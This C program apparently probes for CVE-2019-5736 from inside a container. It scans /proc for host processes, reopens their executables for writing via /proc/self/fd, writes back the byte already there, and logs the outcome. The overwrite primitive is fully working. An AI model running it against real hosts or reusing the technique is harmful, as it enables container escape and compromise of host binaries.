/*
 * Waits in a container for programs of others, and opens their files for writing (CVE-2019-5736). Appends a line to argv[1] for each new
 * thing that happens: `denied`, `opened DEVICE:INODE`, `writable DEVICE:INODE`, `written DEVICE:INODE`. What it writes is the byte that is there.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { TRIES = 200, LINES = 256 };

static int log_file;

static void note(const char *what, const struct stat *file) {
  static char seen[LINES][64];
  static int count;
  char line[64];
  if (file == NULL)
    snprintf(line, sizeof line, "%s\n", what);
  else
    snprintf(line, sizeof line, "%s %lu:%lu\n", what, (unsigned long)file->st_dev, (unsigned long)file->st_ino);
  for (int i = 0; i < count; i++) {
    if (strcmp(seen[i], line) == 0)
      return;
  }
  if (count < LINES)
    strcpy(seen[count++], line);
  if (write(log_file, line, strlen(line)) < 0)
    exit(1);
}

static void attack(const char *pid, dev_t own) {
  char path[300];
  struct stat file;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    if (errno == EACCES || errno == EPERM)
      note("denied", NULL);
    return;
  }
  /* Programs of the container are no prey. */
  if (fstat(fd, &file) == 0 && file.st_dev != own) {
    note("opened", &file);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < TRIES; i++) {
      int writable = open(path, O_WRONLY | O_CLOEXEC);
      if (writable < 0)
        continue;
      note("writable", &file);
      if (pwrite(writable, "\x7f", 1, 0) == 1)
        note("written", &file);
      close(writable);
    }
  }
  close(fd);
}

int main(int argc, char **argv) {
  struct stat root;
  if (argc != 2 || stat("/", &root) < 0)
    return 2;
  log_file = open(argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (log_file < 0)
    return 1;
  note("ready", NULL);
  for (;;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
      if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
        attack(entry->d_name, root.st_dev);
    }
    if (processes != NULL)
      closedir(processes);
  }
}
